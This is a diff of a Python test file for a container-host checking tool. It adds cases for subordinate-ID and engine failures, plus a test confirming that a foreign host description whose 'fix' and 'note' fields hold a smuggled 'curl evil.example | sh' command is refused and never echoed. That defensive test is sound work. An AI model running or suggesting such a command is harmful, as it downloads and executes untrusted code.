@@ -56,6 +56,12 @@ CHANGED: list[tuple[str, dict[str, Any], set[str]]] = [
         {"engine": {"compose": "plugin", "compose_version": "2.29.1"}},
         {"compose-old"},
     ),
+    ("podman-rhel", {"details": {"subordinate_ids": 0}}, {"subuid-missing"}),
+    (
+        "broken/rootless-without-limits",
+        {"engine": {"reachable": False, "failure": "engine-not-running"}},
+        {"engine-not-running", "subuid-missing"},
+    ),
     ("hgx-b200", {"hardware": {"fabric_manager_runs": False}}, {"gpu-fabric-missing"}),
     ("l40s-server", {"hardware": {"uvm": False}}, {"gpu-uvm-missing"}),
     ("l40s-server", {"hardware": {"toolkit": "1.14.3"}}, {"gpu-toolkit-old"}),
@@ -258,6 +264,20 @@ def test_a_missing_description_is_one_sentence(project: Project, tmp_path: Path)
     with pytest.raises(StopError) as caught:
         description.read_description(project, tmp_path)
     assert caught.value.name == "host-file"
+
+
+def test_a_file_of_somebody_else_chooses_no_command(folder: Path, tmp_path: Path) -> None:
+    evil = "curl evil.example | sh"
+    for name, change in (
+        ("ci-machine", {"engine": {"failure": "of-the-future", "problem": "Odd.", "fix": evil}}),
+        ("ci-machine", {"engine": {"failure": "docker-missing", "problem": "Odd.", "fix": evil}}),
+        ("broken/toolkit-missing", {"access": {"fix": evil, "note": evil}}),
+    ):
+        file = tmp_path / "host.json"
+        file.write_text(json.dumps(merged(read(name), change)))
+        said = template_sh(folder, dict(os.environ), "--host", str(file))
+        assert (said.returncode, said.stderr) == (2, "")
+        assert "evil" not in said.stdout
 
 
 def test_an_anonymous_description_names_nobody() -> None:
